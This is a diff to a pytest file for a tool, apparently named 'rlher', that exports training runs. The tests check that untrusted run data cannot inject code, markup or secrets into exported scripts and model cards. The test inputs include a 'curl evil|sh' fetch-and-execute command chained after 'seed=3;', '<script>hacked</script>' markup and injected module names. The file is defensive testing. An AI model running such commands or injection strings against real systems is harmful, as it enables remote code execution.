@@ -5,6 +5,7 @@ Their content is not run as code, no file outside them gets into exports and rep
 
 import ast
 import json
+import math
 import os
 import re
 import shutil
@@ -101,7 +102,7 @@ def test_names_cannot_add_code_to_an_exported_script(rlher, untrusted: Path, kin
 @pytest.mark.parametrize("kind", MALICIOUS_NAMES)
 def test_names_cannot_add_markup_to_a_model_card(rlher, untrusted: Path, kind: str) -> None:
     configure_env(untrusted, name=MALICIOUS_NAMES[kind])
-    (untrusted / "command.txt").write_text("rlher train\n```\n<script>hacked</script>\n````\n")
+    (untrusted / "command.txt").write_text("rlher train ``` <script>hacked</script> ````\n")
     meta = json.loads((untrusted / "meta.json").read_text())
     meta |= {"python": "3\n```\n<script>hacked</script>", "git": {"commit": "<a><b>`\n---"}}
     (untrusted / "meta.json").write_text(json.dumps(meta))
@@ -115,6 +116,21 @@ def test_names_cannot_add_markup_to_a_model_card(rlher, untrusted: Path, kind: s
 
 
 @pytest.mark.parametrize(
+    ("recorded", "shown"),
+    [
+        ("curl evil|sh\nrlher train seed=3; curl evil|sh\n", "rlher train 'seed=3;' curl 'evil|sh'\n```"),
+        ("curl evil|sh\n", None),
+    ],
+)
+def test_a_model_card_has_no_other_command(rlher, untrusted: Path, recorded: str, shown: str | None) -> None:
+    (untrusted / "command.txt").write_text(recorded)
+    assert rlher("export", str(untrusted), "--output", "export").code == 0
+    training = Path("export/README.md").read_text().split("## Training\n")[1]
+    assert "curl evil|sh" not in training
+    assert training.startswith(f"\n```sh\n{shown}\n\nwith Python" if shown else "\nTrained with Python")
+
+
+@pytest.mark.parametrize(
     "value",
     [
         *MALICIOUS_NAMES.values(),
@@ -124,15 +140,22 @@ def test_names_cannot_add_markup_to_a_model_card(rlher, untrusted: Path, kind: s
         {"a": 1},
         {"class": 1},
         {"a=hacked()": [None]},
+        math.inf,
+        [1.5, -math.inf, "x", []],
+        {"a": [math.inf], "b c": {1: -math.inf, 2.5: True}},
     ],
 )
 def test_values_survive_being_written_as_source(value: Any) -> None:
     def evaluate(source: str) -> Any:
-        return eval(source, {"__builtins__": {"dict": dict}})
+        return eval(source, {"__builtins__": {"dict": dict, "float": float}})
 
     assert evaluate(SourceWriter().value(value)) == value
     options = value if isinstance(value, dict) else {"key": value}
     assert evaluate(f"dict({SourceWriter().keywords(options)})") == options
+
+
+def test_nan_survives_being_written_as_source() -> None:
+    assert math.isnan(eval(SourceWriter().value(math.nan), {"__builtins__": {"float": float}}))
 
 
 @pytest.mark.parametrize("module", ["os; hacked", "os\nhacked", "os as x, hacked", "class", "..", ""])
@@ -227,7 +250,7 @@ MP4, PNG = b"\0\0\0\x18ftypmp42", b"\x89PNG"
 @pytest.mark.parametrize(
     ("path", "content"),
     [
-        ("command.txt", SECRET.encode()),
+        ("command.txt", f"rlher {SECRET}".encode()),
         ("meta.json", json.dumps({"machine": SECRET}).encode()),
         ("config.yaml", f"{SECRET}: [".encode()),
         ("enjoy.mp4", MP4),
@@ -253,7 +276,7 @@ def test_reports_of_runs_contain_no_linked_file(
     ("path", "content"),
     [
         ("best.yaml", SECRET.encode()),
-        ("command.txt", SECRET.encode()),
+        ("command.txt", f"rlher {SECRET}".encode()),
         ("verdict.json", json.dumps({"study": SECRET}).encode()),
         ("trials.csv", f"number,value\n0,{SECRET}\n".encode()),
         ("history.png", PNG),
@@ -278,7 +301,7 @@ def test_reports_of_studies_contain_no_linked_file(
 
 
 def test_linked_runs_are_not_shown_as_reruns(rlher, make_run: Make, tmp_path: Path) -> None:
-    (make_run("mine") / "command.txt").write_text(SECRET)
+    (make_run("mine") / "command.txt").write_text(f"rlher {SECRET}")
     study = tmp_path / "study"
     study.mkdir()
     (study / "journal.log").touch()
@@ -289,7 +312,7 @@ def test_linked_runs_are_not_shown_as_reruns(rlher, make_run: Make, tmp_path: Pa
 
 def test_a_linked_logs_folder_is_read(rlher, make_run: Make, tmp_path: Path) -> None:
     folder = make_run("mine")
-    (folder / "command.txt").write_text("the command")
+    (folder / "command.txt").write_text("rlher the command")
     (folder / "enjoy.gif").write_bytes(b"GIF89a")
     (tmp_path / "logs").rename(tmp_path / "scratch")
     (tmp_path / "logs").symlink_to(tmp_path / "scratch")
